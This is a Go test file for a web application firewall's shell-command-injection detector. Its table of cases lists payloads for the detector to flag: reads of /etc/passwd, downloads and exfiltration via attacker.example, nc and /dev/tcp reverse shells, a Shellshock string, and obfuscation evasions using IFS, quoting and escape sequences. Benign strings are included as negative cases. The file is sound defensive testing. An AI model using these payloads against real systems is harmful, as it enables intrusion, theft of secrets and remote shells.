package waf

import "testing"

func TestFindShellCommand(t *testing.T) {
	testFinder(t, "findShellCommand", findShellCommand, []finderCase{
		// Operators and substitutions.
		{"127.0.0.1; id", "id"},
		{"127.0.0.1;id", "id"},
		{"example.com && id", "id"},
		{"example.com || whoami", "whoami"},
		{"8.8.8.8| cat /etc/passwd", "cat /etc/passwd"},
		{"report.pdf\nid", "id"},
		{"report.pdf`id`", "id"},
		{"8.8.8.8$(curl -s attacker.example/$(whoami))", "curl -s"},
		{"x; wget http://attacker.example/x.sh -O /tmp/x", "wget http://attacker.example/x.sh"},
		{"a.txt & ping -n 3 127.0.0.1 &", "ping -n"},
		{"x & whoami /all", "whoami /all"},
		{"x | type C:\\windows\\win.ini", "type C:\\windows\\win.ini"},
		{"x & WHOAMI", "whoami"},
		{"x & net user", "net user"},
		{"x; ip addr", "ip addr"},
		{"x; /usr/bin/id", "id"},
		{"x; nc -e /bin/sh attacker.example 4444", "nc -e"},
		{"x; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh", "base64 -d"},
		{"x; perl -e 'system(\"id\")'", "perl -e"},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp/10.0.0.1/4444 0>&1"},
		{"x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", "rm /tmp/f"},
		{"() { :; }; /bin/bash -c 'id'", "bash -c"},
		// Evasions.
		{"example.com;i''d", "id"},
		{"x; w\"h\"oami", "whoami"},
		{"x; c\\at /etc/passwd", "cat /etc/passwd"},
		{"x; un$()ame -a", "uname -a"},
		{"x; who$@ami", "whoami"},
		{"x; c${u}at /etc/passwd", "cat /etc/passwd"},
		{"x; cat${IFS}/etc/passwd", "cat /etc/passwd"},
		{"x;cat$IFS$9/etc/passwd", "cat /etc/passwd"},
		{"x;{cat,/etc/passwd}", "cat /etc/passwd"},
		{"x; /???/c?t /???/p??swd", "cat /???/p??swd"},
		{"x\n$'\\x69\\x64'", "id"},
		{"x; $'\\151\\144'", "id"},
		{"x|| $'\\x69\\x64'", "id"},
		{"x; ${IFS}id", "id"},
		// Not commands.
		{"Tom & Jerry; cat food", ""},
		{"Rock & Roll | id card", ""},
		{"see https://example.com/?a=1&id=2&ls", ""},
		{"a=1&b=2&sh", ""},
		{"Fish &amp; id", ""},
		{"&#39;id", ""},
		{"(Windows NT 10.0; Win64; x64)", ""},
		{"text/html,application/xml;q=0.9,*/*;q=0.8", ""},
		{"$(id).hide();", ""},
		{"$(document).ready(function(){})", ""},
		{"_clck=bgsoLU|2|fr0|0|1895", ""},
		{"Products | Store", ""},
		{"x; sleep well", ""},
		{"Safety net; net users say so", ""},
		{"Tom; cat and/or dog", ""},
		{"x & reg query HKLM\\Software", "reg query"},
		{"`git rebase -i HEAD~3` then mark the commits as `squash`.", ""},
		{"Thanks for the help with this problem; I tried running it again and it worked fine, so the fix is `curl -sSL https://get.docker.com | sh` for everyone.", ""},
		{"id", ""},
		{"cat /etc/passwd", ""},
	})
}

func FuzzFindShellCommand(f *testing.F) {
	fuzzFinder(f, findShellCommand, "x; c${u}at${IFS}/etc/passwd", "x;{cat,/etc/passwd}`id`$'\\x69'")
}
